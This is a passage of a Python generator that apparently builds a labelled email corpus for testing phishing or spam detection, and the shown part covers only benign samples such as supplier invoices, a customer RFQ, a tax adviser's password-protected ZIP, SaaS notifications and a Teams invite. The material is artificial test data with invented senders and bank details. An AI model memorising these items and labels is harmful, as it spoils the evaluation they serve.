                     + plain.replace("&", "&amp;").replace("\n", "<br>\n") + "</div>", "de")
    body = mixed(name, [alt(name, plain, html, "gen"),
                        attachment("application/pdf", "Rechnung_2025-30418.pdf", pdf_bytes)], "gen")
    emit("clean", name, "Regular supplier invoice from the packaging supplier's bookkeeper (DMARC pass on its own "
         "domain via its hoster) with a PDF of line items referencing the delivery note and PO, the usual bank "
         "details and no links",
         "2025-09-09 08:47:33 +0200",
         Sender("postfix", "85.13.163.118", "dd31418.kasserver.com", "DE", dkim_d="lippe-verpackung.de",
                selector="kas202402051021", host="dd31418.kasserver.com", client="ip-037-201-114-016.um10.pools.vodafone-ip.de",
                client_ip="37.201.114.16", mailer="X-Mailer: Microsoft Outlook 16.0"),
         "Monika Hanke <m.hanke@lippe-verpackung.de>", [addr("ap")],
         "Rechnung 2025-30418 zu Lieferschein 77120", body, lang="de")

    # L07 -- customer's RFQ with an Excel attachment
    name = "b13-clean-customer-rfq-excel"
    workbook = xlsx([
        ["Pennine Foods Ltd - Request for Quotation", "", "", ""],
        ["Reference", "PF-ENG-0618", "", ""],
        ["Site", "Leeds Distribution Centre, LS10 1RX", "", ""],
        ["", "", "", ""],
        ["Item", "Description", "Qty", "Notes"],
        ["1", "Spiral conveyor, 6 tiers, infeed 1200 mm, chilled area (+2 C)", "1", "replace existing unit"],
        ["2", "Infeed / outfeed roller sections, 3 m", "4", "match existing 650 mm BF"],
        ["3", "Installation and commissioning", "1", "weekend shutdown only"],
        ["4", "Spare parts package, 2 years", "1", ""],
        ["", "", "", ""],
        ["Quote due", "05/07/2024", "", ""],
    ], "RFQ PF-ENG-0618", "Rachel Dunmore")
    body_html = paras(
        "Hi Oliver,\n\nFollowing your visit last month, please find attached our RFQ for the replacement spiral "
        "conveyor at the Leeds DC. Drawings of the current layout will follow from our maintenance team.\n\n"
        "We would need your quotation by 5 July; the installation window is the August bank holiday weekend.\n\n"
        "Happy to arrange another site visit if Ben needs to measure anything.\n\nKind regards") + signature_block(
        ["Rachel Dunmore", "Engineering Procurement", "Pennine Foods Ltd", "+44 113 496 0274"])
    plain = ("Hi Oliver,\n\nFollowing your visit last month, please find attached our RFQ for the replacement spiral "
             "conveyor at the Leeds DC. Drawings of the current layout will follow from our maintenance team.\n\nWe "
             "would need your quotation by 5 July; the installation window is the August bank holiday weekend.\n\n"
             "Kind regards\nRachel Dunmore\nEngineering Procurement\nPennine Foods Ltd\n")
    body = mixed(name, [outlook_alt(name, plain, body_html), attachment(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "RFQ_PF-ENG-0618_Leeds_Spiral_Conveyor.xlsx", workbook)])
    emit("clean", name, "Known UK customer's RFQ from her Microsoft 365 mailbox (auth passes) with a plain .xlsx "
         "of the required items, referencing a real site visit; no links, no macros",
         "2024-06-18 11:05:47 +0100", m365_tenant_sender("40.107.23.109", "GBR01", "GB"),
         "Rachel Dunmore <rachel.dunmore@penninefoods.co.uk>", [addr("grant")],
         "RFQ – replacement spiral conveyor, Leeds DC (ref PF-ENG-0618)", body, cc=[addr("hartley")],
         extra=["X-Attach: yes"])

    # L08 -- freight forwarder's shipping notice with a PDF bill of lading
    name = "b13-clean-forwarder-bl-draft-pdf"
    pdf_bytes = files.pdf([
        "HANSEATIC CARGO LOGISTICS GMBH - HOUSE BILL OF LADING (DRAFT)", "",
        "HBL No.: HCL240917-HAM   Booking: MSC 177HAM0924381",
        "Shipper: Halvorsen & Kroll Fördertechnik GmbH, Technologiepark 18, 33100 Paderborn",
        "Consignee: Carolina Distribution Systems Inc., 4100 Rivers Ave, North Charleston SC 29405",
        "Notify: same as consignee", "",
        "Vessel/Voyage: MSC ANTWERP / 438W   Port of loading: Hamburg   Port of discharge: Charleston",
        "ETD 27.09.2024   ETA 12.10.2024", "",
        "Container MSCU 482190-7, 40' HC, seal 7781204",
        "12 packages conveyor modules and control cabinets, gross weight 14,380 kg, 61.2 cbm",
        "HS 8428.33   Freight prepaid   Incoterm FCA Paderborn", "",
        "DRAFT - please check and confirm before 25.09.2024 12:00"], title="HBL HCL240917 draft")
    body_html = paras(
        "Hallo Svenja,\n\nanbei der B/L-Entwurf für Auftrag 24-0917 (1x40'HC nach Charleston, MSC ANTWERP 438W). "
        "Bitte prüft die Angaben zu Consignee und Warenbeschreibung bis morgen 12:00 Uhr, dann gebe ich das "
        "Original frei.\n\nAbholung bei euch ist für Donnerstag 07:00 bestätigt, Fahrer hat die Containernummer.\n\n"
        "Viele Grüße") + signature_block(["Jonas Petersen", "Export Seefracht", "Hanseatic Cargo Logistics GmbH",
                                          "Am Sandtorkai 44, 20457 Hamburg", "+49 40 3008 412-17"])
    plain = ("Hallo Svenja,\n\nanbei der B/L-Entwurf für Auftrag 24-0917 (1x40'HC nach Charleston, MSC ANTWERP 438W). "
             "Bitte prüft die Angaben zu Consignee und Warenbeschreibung bis morgen 12:00 Uhr, dann gebe ich das "
             "Original frei.\n\nAbholung bei euch ist für Donnerstag 07:00 bestätigt.\n\nViele Grüße\nJonas Petersen\n"
             "Hanseatic Cargo Logistics GmbH\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/pdf", "HBL_HCL240917_draft.pdf", pdf_bytes)])
    emit("clean", name, "The company's regular freight forwarder sends a draft house bill of lading as a plain PDF "
         "for the export clerk to check, with booking, vessel and container details matching the order; "
         "authenticated Microsoft 365 sender, no links",
         "2024-09-24 15:12:09 +0200", m365_tenant_sender("52.101.69.77", "DEU01", "DE"),
         "Jonas Petersen <j.petersen@hanseatic-cargo.de>", [addr("rohde")],
         "Shipping notice / B/L draft – HK order 24-0917 – MSC ANTWERP 438W", body, cc=[addr("versand")],
         lang="de", extra=["X-Attach: yes"])

    # L09/L10 -- tax adviser's encrypted ZIP, password in a second mail
    name = "b13-clean-taxadviser-encrypted-zip"
    password = "Wz7#Lq-2025-Dreyer"
    inner_pdf = files.pdf([
        "Kanzlei Dreyer & Partner mbB - Steuerberater", "",
        "Halvorsen & Kroll Fördertechnik GmbH - Jahresabschluss zum 31.12.2024 (ENTWURF)", "",
        "Bilanzsumme: 41.822.615,34 EUR", "Umsatzerlöse: 58.904.221,07 EUR", "Jahresüberschuss: 2.113.480,92 EUR", "",
        "Entwurf zur Abstimmung mit der Geschäftsführung - nicht zur Weitergabe."], title="Jahresabschluss 2024 Entwurf")
    archive = zipcrypto([("HK_Jahresabschluss_2024_Entwurf.pdf", inner_pdf)], password, name)
    body_html = paras(
        "Sehr geehrte Frau Halvorsen,\n\nwie heute Morgen telefonisch besprochen erhalten Sie anbei den Entwurf des "
        "Jahresabschlusses 2024 zur Durchsicht. Die Datei ist verschlüsselt; das Kennwort sende ich Ihnen in einer "
        "separaten E-Mail.\n\nFür Rückfragen stehe ich Ihnen gern zur Verfügung. Den Termin zur Schlussbesprechung "
        "am 20.03. um 14 Uhr hatten wir bereits abgestimmt.\n\nMit freundlichen Grüßen") + signature_block(
        ["Birgit Dreyer", "Steuerberaterin", "Kanzlei Dreyer & Partner mbB", "Westernstraße 29, 33098 Paderborn",
         "Tel. 05251 28844-0"])
    plain = ("Sehr geehrte Frau Halvorsen,\n\nwie heute Morgen telefonisch besprochen erhalten Sie anbei den Entwurf "
             "des Jahresabschlusses 2024 zur Durchsicht. Die Datei ist verschlüsselt; das Kennwort sende ich Ihnen "
             "in einer separaten E-Mail.\n\nMit freundlichen Grüßen\nBirgit Dreyer\nSteuerberaterin\n"
             "Kanzlei Dreyer & Partner mbB\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/x-zip-compressed", "HK_Jahresabschluss_2024_Entwurf.zip", archive)])
    first_id = "<FR3P281MB2216" + h(name, "mid", 24).upper() + "@FR3P281MB2216.DEUP281.PROD.OUTLOOK.COM>"
    emit("clean", name, "The company's tax adviser sends the draft annual accounts as a password-protected ZIP "
         "(ZipCrypto) containing only a PDF, announced by phone, password sent in a separate mail; authenticated "
         "Microsoft 365 sender, no links",
         "2025-03-12 10:02:18 +0100", m365_tenant_sender("52.101.68.12", "DEU01", "DE"),
         "Birgit Dreyer <b.dreyer@dreyer-stb.de>", [addr("halvorsen")],
         "Jahresabschluss 2024 – Entwurf (verschlüsselt)", body, lang="de", msgid=first_id,
         extra=["X-Attach: yes"])

    name = "b13-clean-taxadviser-zip-password"
    plain = (f"Sehr geehrte Frau Halvorsen,\n\ndas Kennwort für die ZIP-Datei aus meiner vorherigen E-Mail "
             f"(Jahresabschluss 2024 – Entwurf) lautet:\n\n{password}\n\nMit freundlichen Grüßen\nBirgit Dreyer\n"
             "Steuerberaterin\nKanzlei Dreyer & Partner mbB\n")
    body_html = paras(plain)
    emit("clean", name, "Second mail from the tax adviser with only the password for the ZIP sent two minutes "
         "earlier, the usual separate-channel-lite practice of German tax offices; no links, no attachment",
         "2025-03-12 10:04:51 +0100", m365_tenant_sender("52.101.68.19", "DEU01", "DE"),
         "Birgit Dreyer <b.dreyer@dreyer-stb.de>", [addr("halvorsen")],
         "Kennwort: Jahresabschluss 2024 – Entwurf", outlook_alt(name, plain, body_html), lang="de")

    # L11 -- Personio task notification (benefits enrolment)
    name = "b13-bulk-personio-benefits-enrolment"
    link = "https://halkroll.personio.de/my-desk/tasks"
    html = html_page(
        '<table width="560" style="font-family:Arial,sans-serif;font-size:14px"><tr><td style="padding:20px 0">'
        '<b>Halvorsen &amp; Kroll Fördertechnik GmbH</b> &middot; Personio</td></tr><tr><td><p>Hallo Marek,</p>'
        '<p>Petra Schomaker hat Ihnen eine neue Aufgabe zugewiesen:</p><p style="background:#f4f4f4;padding:12px">'
        '<b>Anmeldung Entgeltumwandlung (bAV) und JobRad 2026</b><br>Fällig am 28.11.2025</p><p>Die Unterlagen und '
        'das Formular finden Sie in Personio unter „Meine Aufgaben“.</p>'
        f'<p><a href="{link}" style="background:#1d1d1b;color:#fff;padding:8px 18px;text-decoration:none">Aufgabe '
        'öffnen</a></p><p style="font-size:11px;color:#888">Sie erhalten diese E-Mail, weil Sie Mitarbeiter:in von '
        'Halvorsen &amp; Kroll Fördertechnik GmbH sind. <a href="https://halkroll.personio.de/my-desk/settings/'
        'notifications">Benachrichtigungen verwalten</a><br>Personio SE &amp; Co. KG, Seidlstraße 3, 80335 München'
        '</p></td></tr></table>', "de")
    plain = ("Hallo Marek,\n\nPetra Schomaker hat Ihnen eine neue Aufgabe zugewiesen:\n\nAnmeldung Entgeltumwandlung "
             f"(bAV) und JobRad 2026\nFällig am 28.11.2025\n\nAufgabe öffnen: {link}\n")
    emit("bulk", name, "Genuine Personio task notification for the company's own tenant (halkroll.personio.de): "
         "HR assigned the pension-conversion and JobRad enrolment; sent by Personio through Amazon SES with "
         "aligned DKIM, no credential request in the mail",
         "2025-11-03 09:00:14 +0100",
         ses("54.240.7.23", "personio.de", "DE", "eu-central-1", dkim_d="personio.de",
             mailfrom="bounces@mail.personio.de"),
         "Personio <noreply@personio.de>", [addr("nowak")],
         "Neue Aufgabe: Anmeldung Entgeltumwandlung (bAV) und JobRad 2026", alt(name, plain, html, "ses"),
         lang="de", bcl=2)

    # L12 -- the IT team's own maintenance notice (internal)
    name = "b13-clean-it-maintenance-notice-internal"
    status = "https://halkroll.sharepoint.com/sites/IT/SitePages/Wartung.aspx"
    plain = ("Liebe Kolleginnen und Kollegen,\n\nam Samstag, 14.06.2025, von 07:00 bis ca. 15:00 Uhr führen wir "
             "Wartungsarbeiten an Firewall, Dateiserver und ERP-System durch. In dieser Zeit sind ERP (Proalpha), "
             "VPN und die Netzlaufwerke nicht erreichbar. E-Mail und Teams funktionieren weiter.\n\nBitte meldet euch "
             "am Freitag vor Feierabend vom ERP ab. Ihr müsst nichts weiter tun; wir werden euch zu keinem "
             "Zeitpunkt nach eurem Passwort fragen.\n\nDen aktuellen Stand findet ihr auf der IT-Seite im Intranet:\n"
             f"{status}\n\n---\n\nDear colleagues in Coventry, on Saturday 14 June, 07:00-15:00 CEST, ERP, VPN and "
             "file shares will be unavailable due to maintenance. Email and Teams are not affected.\n\n"
             "Viele Grüße / Best regards\nDennis Albers\nLeitung IT\nHalvorsen & Kroll Fördertechnik GmbH\n"
             "Tel. +49 5251 8870-140\n")
    body_html = paras(plain.replace(status, "")).replace(
        "auf der IT-Seite im Intranet:", f'auf der <a href="{status}">IT-Seite im Intranet</a>:')
    headers = internal_envelope(name, when("2025-06-10 16:22:05 +0200"), "Dennis Albers <d.albers@halkroll.de>",
                                ['"Alle Mitarbeitenden" <alle@halkroll.de>'],
                                "Wartungsfenster Sa. 14.06.: ERP, VPN und Dateiserver nicht verfügbar")
    add("clean", name, "Internal maintenance notice from the head of IT to the all-staff group, sent inside the "
        "tenant (AuthAs Internal, SCL -1), bilingual, linking only to the company's own SharePoint and saying IT "
        "never asks for passwords", message(headers, outlook_alt(name, plain, body_html)))

    # L13 -- real KnowBe4 training reminder
    name = "b13-bulk-knowbe4-training-reminder-real"
    link = "https://training.knowbe4.com/ui/login"
    html = html_page(
        '<table width="560" style="font-family:Arial,sans-serif;font-size:14px"><tr><td><p>Hallo Aylin Demir,</p>'
        '<p>Sie wurden für die Schulung <b>Security Awareness Training 2025 &ndash; Halvorsen &amp; Kroll</b> '
        'angemeldet. Bitte schließen Sie die Schulung bis zum <b>23.10.2025</b> ab (Dauer ca. 25 Minuten).</p>'
        f'<p>Anmeldung: <a href="{link}">{link}</a><br>Melden Sie sich wie gewohnt über „Mit Microsoft anmelden“ '
        'an (Single Sign-on).</p><p>Bei Fragen wenden Sie sich an die IT: it-support@halkroll.de, Durchwahl -140.</p>'
        '<p>Ihre IT</p></td></tr></table>', "de")
    plain = ("Hallo Aylin Demir,\n\nSie wurden für die Schulung Security Awareness Training 2025 - Halvorsen & Kroll "
             "angemeldet. Bitte schließen Sie die Schulung bis zum 23.10.2025 ab (Dauer ca. 25 Minuten).\n\n"
             f"Anmeldung: {link}\nMelden Sie sich wie gewohnt über 'Mit Microsoft anmelden' an (Single Sign-on).\n\n"
             "Bei Fragen wenden Sie sich an die IT: it-support@halkroll.de, Durchwahl -140.\n\nIhre IT\n")
    emit("bulk", name, "Genuine KnowBe4 training-assignment reminder configured by the IT team, sent by KnowBe4 "
         "through SendGrid with aligned knowbe4.com DKIM, linking to training.knowbe4.com and pointing to IT's "
         "internal contact",
         "2025-10-14 08:00:04 +0200", sendgrid("167.89.101.61", dkim_d="knowbe4.com"),
         "KnowBe4 <noreply@knowbe4.com>", [addr("demir")],
         "Erinnerung: Security Awareness Training 2025 – noch 9 Tage", alt(name, plain, html, "sendgrid"),
         lang="de", bcl=1)

    # L14 -- partner's Teams meeting invitation
    name = "b13-clean-partner-teams-invitation"
    tid, oid = guid(name, "tid"), guid(name, "oid")
    meeting = (f"https://teams.microsoft.com/l/meetup-join/19%3ameeting_{alnum(name, 'mt', 48)}%40thread.v2/0?context="
               f"%7b%22Tid%22%3a%22{tid}%22%2c%22Oid%22%3a%22{oid}%22%7d")
    description = ("Hi Oliver, hi Ben,\n\nlet's walk through the commissioning plan for the Leeds spiral before we "
                   "send it to Pennine Foods: shutdown sequence, PLC hand-over and the safety sign-off.\n\nTom\n\n"
                   "________________________________________________________________________________\n"
                   f"Microsoft Teams meeting\nJoin on your computer, mobile app or room device\nClick here to join the "
                   f"meeting <{meeting}>\nMeeting ID: 362 118 904 771\nPasscode: Xq7hW3\n\nDial in by phone\n"
                   "+44 20 3855 4748,,583021774# United Kingdom, London\nPhone Conference ID: 583 021 774#\n"
                   "________________________________________________________________________________")
    invite = ics(name, organizer=("Tom Ashworth", "tom.ashworth@apmidlands.co.uk"),
                 attendees=[("Oliver Grant", P["grant"][1]), ("Ben Hartley", P["hartley"][1])],
                 summary="Commissioning plan – Pennine Foods Leeds spiral", start="20250515T140000",
                 end="20250515T150000", location="Microsoft Teams Meeting", description=description,
                 stamp="20250513T083122Z", tzid="GMT Standard Time")
    html_body = paras("Hi Oliver, hi Ben,\n\nlet's walk through the commissioning plan for the Leeds spiral before "
                      "we send it to Pennine Foods: shutdown sequence, PLC hand-over and the safety sign-off.\n\nTom") + (
        '<div style="width:100%"><span style="white-space:nowrap;color:#5F5F5F">________________________________'
        '</span></div><p style="font-size:18pt"><b>Microsoft Teams meeting</b></p><p><b>Join on your computer, '
        f'mobile app or room device</b><br><a href="{meeting}">Click here to join the meeting</a></p><p>Meeting ID: '
        '362 118 904 771<br>Passcode: Xq7hW3</p><p><a href="https://www.microsoft.com/en-us/microsoft-teams/'
        'download-app">Download Teams</a> | <a href="https://www.microsoft.com/microsoft-teams/join-a-meeting">Join '
        'on the web</a></p>')
    body = Multi("alternative", boundary(name, "outlook", "alt"), [
        text(description + "\n"), text(outlook_html(html_body), "html"),
        Leaf("text/calendar", invite, "base64", '; charset="utf-8"; method=REQUEST')])
    emit("clean", name, "Meeting request from the company's integration partner (authenticated Microsoft 365 "
         "sender) with an Outlook-generated Teams block: the only links are teams.microsoft.com join links and "
         "Microsoft's standard ones",
         "2025-05-13 09:31:22 +0100", m365_tenant_sender("40.107.22.51", "GBR01", "GB"),
         "Tom Ashworth <tom.ashworth@apmidlands.co.uk>", [addr("grant"), addr("hartley")],
         "Commissioning plan – Pennine Foods Leeds spiral", body,
         extra=["X-MS-Exchange-Calendar-Series-Instance-Id: BAAAAIIA4AB0xbcQGoLgCAAAAAA" + alnum(name, "ser", 20)])

    # L15 -- LinkedIn notification
    name = "b13-bulk-linkedin-search-appearances"
    track = f"lipi=urn%3Ali%3Apage%3Aemail_email_search_appearances_01%3B{alnum(name, 'lp', 22)}%3D%3D"
    link = f"https://www.linkedin.com/comm/me/search-appearances/?midToken=AQH{alnum(name, 'mt', 14)}&{track}"
    unsub = f"https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi=urn%3Ali%3Apage%3Aemail_email_search_appearances&midToken=AQH{alnum(name, 'mt', 14)}&eid={alnum(name, 'eid', 14)}"
    html = html_page(
        '<table width="512" align="center" style="font-family:-apple-system,Segoe UI,Arial,sans-serif">'
        '<tr><td style="padding:16px 0"><b style="color:#0a66c2">LinkedIn</b></td></tr><tr><td><p style="font-size:'
        '20px">Oliver, you appeared in 14 searches this week</p><p>People from Pennine Foods Ltd, Brightwell Retail '
        'Logistics and 5 other companies found you.</p>'
        f'<p><a href="{link}" style="background:#0a66c2;color:#fff;padding:8px 18px;border-radius:16px;text-decoration:'
        f'none">See all searches</a></p><p style="font-size:11px;color:#666">This email was intended for Oliver Grant '
        f'(Area Sales Manager UK at Halvorsen &amp; Kroll). <a href="{unsub}">Unsubscribe</a> &middot; <a href="'
        'https://www.linkedin.com/help/linkedin/answer/4788">Help</a><br>&copy; 2024 LinkedIn Corporation, 1000 '
        'West Maude Avenue, Sunnyvale, CA 94085.</p></td></tr></table>')
    plain = (f"Oliver, you appeared in 14 searches this week\n\nPeople from Pennine Foods Ltd, Brightwell Retail Logistics "
             f"and 5 other companies found you.\n\nSee all searches: {link}\n\nUnsubscribe: {unsub}\n")
    emit("bulk", name, "Genuine LinkedIn search-appearances notification from notifications-noreply@linkedin.com "
         "with linkedin.com DKIM, one-click List-Unsubscribe and linkedin.com/comm tracking links",
         "2024-03-12 07:33:19 +0000",
         Sender("esp", "108.174.6.215", "mail-d-215.linkedin.com", "US", dkim_d="linkedin.com", selector="d2048-2",
                host="linkedin.com", mailfrom=f"s-{alnum(name, 'bounce', 24)}@bounce.linkedin.com",
                esp_headers=[f"List-Unsubscribe: <{unsub}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                             "X-LinkedIn-Class: EMAIL-DEFAULT", "X-LinkedIn-Template: email_search_appearances_01",
                             f"X-LinkedIn-fbl: s-{alnum(name, 'fbl', 30)}", "Feedback-ID: email_search_appearances_01:linkedin"]),
         "LinkedIn <notifications-noreply@linkedin.com>", [addr("grant")],
         "Oliver, you appeared in 14 searches this week", alt(name, plain, html, "java"), bcl=4)

    # L16 -- trade-press newsletter (CleverReach)
    name = "b13-bulk-tradepress-newsletter-intralogistik"
    def tl(i: int) -> str:
        return f"https://news.intralogistik-aktuell.de/c/{num(name, 'c', 10000000, 99999999)}/{h(name, f'l{i}', 16)}-s{alnum(name, 'sx', 6).lower()}"
    unsub = f"https://news.intralogistik-aktuell.de/rmftlp.php?cid={num(name, 'c', 10000000, 99999999)}&fid={h(name, 'u', 12)}"
    stories = [("AMR-Markt 2025: Wo sich autonome Transportroboter im Mittelstand rechnen", 0),
               ("LogiMAT 2025: Die Aussteller-Highlights der Fördertechnik", 1),
               ("Fachkräftemangel im Lager: Drei Betriebe, drei Lösungen", 2),
               ("Interview: Warum Retrofit oft günstiger ist als Neubau", 3)]
    items = "".join(f'<tr><td style="padding:10px 0;border-bottom:1px solid #ddd"><a href="{tl(i)}" '
                    f'style="color:#003b6f;font-size:16px;text-decoration:none"><b>{escape(t)}</b></a></td></tr>'
                    for t, i in stories)
    html = html_page(
        '<table width="600" align="center" style="font-family:Arial,sans-serif"><tr><td style="background:#003b6f;'
        'color:#fff;padding:16px;font-size:22px">Intralogistik Aktuell &middot; Newsletter KW 47</td></tr>'
        f'{items}<tr><td style="font-size:11px;color:#777;padding-top:16px">Sie erhalten diesen Newsletter, weil Sie '
        f'sich auf intralogistik-aktuell.de angemeldet haben. <a href="{unsub}">Abmelden</a><br>Fachverlag Nordwerk '
        'GmbH, Lindenallee 12, 30159 Hannover &middot; HRB 220417</td></tr>'
        f'<tr><td><img src="https://news.intralogistik-aktuell.de/o/{h(name, "op", 20)}.gif" width="1" height="1" '
        'alt=""></td></tr></table>', "de")
    plain = ("Intralogistik Aktuell - Newsletter KW 47\n\n" + "".join(f"* {t}\n  {tl(i)}\n\n" for t, i in stories)
             + f"Abmelden: {unsub}\n")
    emit("bulk", name, "Genuine trade-press newsletter (German intralogistics magazine) sent through CleverReach "
         "with the publisher's DKIM, List-Unsubscribe, tracked links on its own news. subdomain and a tracking "
         "pixel, the usual bulk shape",
         "2024-11-21 06:30:00 +0100",
         Sender("esp", "94.143.144.133", "mta-133.crsend.com", "DE", dkim_d="intralogistik-aktuell.de",
                selector="cr", host="crsend.com", mailfrom=f"bounce-{h(name, 'bn', 12)}@crsend.com",
                dmarc="pass",
                esp_headers=[f"List-Unsubscribe: <{unsub}>, <mailto:unsubscribe-{h(name, 'um', 10)}@crsend.com>",
                             "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                             f"X-CSA-Complaints: csa-complaints@eco.de", "Precedence: bulk"]),
         "Intralogistik Aktuell <newsletter@intralogistik-aktuell.de>", [addr("brandt")],
         "Intralogistik Aktuell KW 47: AMR-Markt, LogiMAT-Vorschau, Fachkräfte im Lager", alt(name, plain, html, "gen"),
         lang="de", bcl=6)

    # L17 -- vendor webinar invitation with HubSpot click tracking
    name = "b13-bulk-vendor-webinar-hubspot"
    def hs(i: int) -> str:
        return (f"https://d2Fk7x04.eu1.hubspotlinks.com/Ctc/{alnum(name, 'ctc', 2)}+113/d2Fk7x04/VW{alnum(name, f'v{i}', 40)}"
                f"/{alnum(name, f'w{i}', 20)}")
    unsub = f"https://lagerwerk-software.de/hs/manage-preferences/unsubscribe?languagePreference=de&d={alnum(name, 'ud', 30)}"
    html = html_page(
        '<table width="600" align="center" style="font-family:Arial,sans-serif;font-size:15px"><tr><td style="padding:'
        '18px;background:#0c2340;color:#fff;font-size:20px">Lagerwerk Software &middot; Webinar</td></tr><tr><td '
        'style="padding:18px"><p>Hallo Herr Wessel,</p><p>was kostet ein WMS-Wechsel im Mittelstand wirklich? In '
        '45 Minuten zeigen wir anhand von zwei Projekten aus der Fördertechnik, wo Zeit und Budget bleiben &ndash; '
        'und wie man Stillstände vermeidet.</p><p><b>Donnerstag, 25.09.2025, 10:00&ndash;10:45 Uhr</b><br>Online, '
        'kostenlos</p>'
        f'<p><a href="{hs(1)}" style="background:#f39200;color:#fff;padding:10px 22px;text-decoration:none">Jetzt '
        f'anmelden</a></p><p><a href="{hs(2)}">Agenda und Referenten</a></p></td></tr><tr><td style="font-size:11px;'
        'color:#888;padding:18px">Lagerwerk Software GmbH, Hafenweg 8, 48155 Münster<br>Sie erhalten diese E-Mail, '
        f'weil Sie sich für Produktinformationen angemeldet haben. <a href="{unsub}">Abmelden</a></td></tr>'
        f'<tr><td><img src="https://d2Fk7x04.eu1.hubspotlinks.com/Cto/{alnum(name, "cto", 30)}" width="1" height="1" '
        'alt=""></td></tr></table>', "de")
    plain = ("Hallo Herr Wessel,\n\nwas kostet ein WMS-Wechsel im Mittelstand wirklich? Webinar am Donnerstag, "
             f"25.09.2025, 10:00-10:45 Uhr, online und kostenlos.\n\nJetzt anmelden: {hs(1)}\nAgenda: {hs(2)}\n\n"
             f"Abmelden: {unsub}\n")
    emit("bulk", name, "Genuine vendor webinar invitation (German warehouse-software vendor) sent through HubSpot "
         "with the vendor's DKIM, eu1.hubspotlinks.com click tracking, a tracking pixel and List-Unsubscribe; "
         "registration only, no login asked",
         "2025-09-16 10:00:00 +0200",
         Sender("esp", "143.244.84.12", "mail-84-12.eu1.hubspotemail.net", "US", dkim_d="lagerwerk-software.de",
                selector="hs1-26318441", host="eu1.hubspotemail.net",
                mailfrom=f"1axbv{alnum(name, 'mf', 14).lower()}@bf05x.hubspotemail.net",
                esp_headers=[f"List-Unsubscribe: <{unsub}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                             f"X-HS-Cid: {alnum(name, 'hscid', 24)}", "Precedence: bulk"]),
         "Lagerwerk Software Events <events@lagerwerk-software.de>", [addr("wessel")],
         "Webinar 25.09.: Was ein WMS-Wechsel im Mittelstand wirklich kostet", alt(name, plain, html, "gen"),
         lang="de", bcl=6)

    # L18 -- customer's purchase order with a PDF
    name = "b13-clean-customer-po-pdf"
    pdf_bytes = files.pdf([
        "Nordmark Distribution GmbH - Einkauf - Industriestraße 90, 24537 Neumünster", "",
        "BESTELLUNG 4500091877                      Datum: 22.07.2025",
        "Lieferant: Halvorsen & Kroll Fördertechnik GmbH (Lief.-Nr. 700214)",
        "Ihr Angebot: AN-25-0611 vom 10.07.2025", "",
        "Pos  Material      Bezeichnung                               Menge   Preis/St.",
        "10   HK-RF300-TR   Tragrolle RF-300, 50x600 mm, verzinkt       120   18,40 EUR",
        "20   HK-RF300-AM   Antriebsmodul RF-300, 24 V                    6  412,00 EUR",
        "30   HK-RF300-KB   Kurvenband 90 Grad                            2  1.960,00 EUR", "",
        "Liefertermin: KW 33/2025 frei Haus Neumünster, Rampe 4",
        "Zahlungsbedingungen: 30 Tage netto   Bitte Bestellnummer auf allen Dokumenten angeben."],
        title="Bestellung 4500091877")
    body_html = paras("Hallo Frau Vogt,\n\nanbei unsere Bestellung 4500091877 zu Ihrem Angebot AN-25-0611. Bitte "
                      "senden Sie uns eine Auftragsbestätigung mit verbindlichem Liefertermin.\n\nVielen Dank und "
                      "viele Grüße") + signature_block(["Stefan Krämer", "Einkauf Technik", "Nordmark Distribution GmbH",
                                                         "Tel. +49 4321 9977-312"])
    plain = ("Hallo Frau Vogt,\n\nanbei unsere Bestellung 4500091877 zu Ihrem Angebot AN-25-0611. Bitte senden Sie uns "
             "eine Auftragsbestätigung mit verbindlichem Liefertermin.\n\nVielen Dank und viele Grüße\nStefan Krämer\n"
             "Einkauf Technik\nNordmark Distribution GmbH\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/pdf", "Bestellung_4500091877.pdf", pdf_bytes)])
    emit("clean", name, "Known customer's buyer sends a purchase order as a plain PDF referencing the company's "
         "own quotation number; authenticated Microsoft 365 sender, no links",
         "2025-07-22 09:14:02 +0200", m365_tenant_sender("52.101.70.28", "DEU01", "DE"),
         "Stefan Krämer <s.kraemer@nordmark-distribution.de>", [addr("vogt")],
         "Bestellung 4500091877 – Ersatzteile Rollenförderer RF-300", body, lang="de", extra=["X-Attach: yes"])

    # L19 -- supplier's open-items list, bank details unchanged
    name = "b13-clean-supplier-open-items-pdf"
    bank = iban("DE", "47260191" + "0274410800")
    pdf_bytes = files.pdf([
        "Rheda Antriebstechnik GmbH - Debitorenbuchhaltung", "",
        "Offene-Posten-Liste Kunde 10483 Halvorsen & Kroll Fördertechnik GmbH - Stand 05.08.2024", "",
        "Beleg        Datum        Fällig       Betrag",
        "RE 24-5512   03.06.2024   03.07.2024   4.182,30 EUR",
        "RE 24-5790   21.06.2024   21.07.2024   2.916,75 EUR", "",
        "Summe offen: 7.099,05 EUR", "",
        f"Bankverbindung: Volksbank Bielefeld-Gütersloh - IBAN {bank} - BIC GENODEM1GTL"], title="OP-Liste 10483")
    body_html = paras(
        "Hallo Frau Wiechers,\n\nbeim Abgleich ist uns aufgefallen, dass die beiden Rechnungen aus Juni noch offen "
        "sind (Liste anbei). Könnten Sie bitte kurz prüfen, ob die Zahlung schon unterwegs ist? Falls ja, betrachten "
        "Sie diese Nachricht bitte als gegenstandslos.\n\nViele Grüße aus Rheda") + signature_block(
        ["Anja Budde", "Debitorenbuchhaltung", "Rheda Antriebstechnik GmbH", "Tel. +49 5242 40981-55"])
    plain = ("Hallo Frau Wiechers,\n\nbeim Abgleich ist uns aufgefallen, dass die beiden Rechnungen aus Juni noch offen "
             "sind (Liste anbei). Könnten Sie bitte kurz prüfen, ob die Zahlung schon unterwegs ist? Falls ja, "
             "betrachten Sie diese Nachricht bitte als gegenstandslos.\n\nViele Grüße aus Rheda\nAnja Budde\n"
             "Rheda Antriebstechnik GmbH\n")
    body = mixed(name, [outlook_alt(name, plain, body_html),
                        attachment("application/pdf", "OP-Liste_10483_20240805.pdf", pdf_bytes)])
    emit("clean", name, "A regular supplier's receivables clerk politely asks about two open June invoices with "
         "an open-items PDF that repeats the long-standing German bank account; authenticated sender, no links, "
         "no change of payment details",
         "2024-08-06 13:27:44 +0200", m365_tenant_sender("52.101.69.201", "DEU01", "DE"),
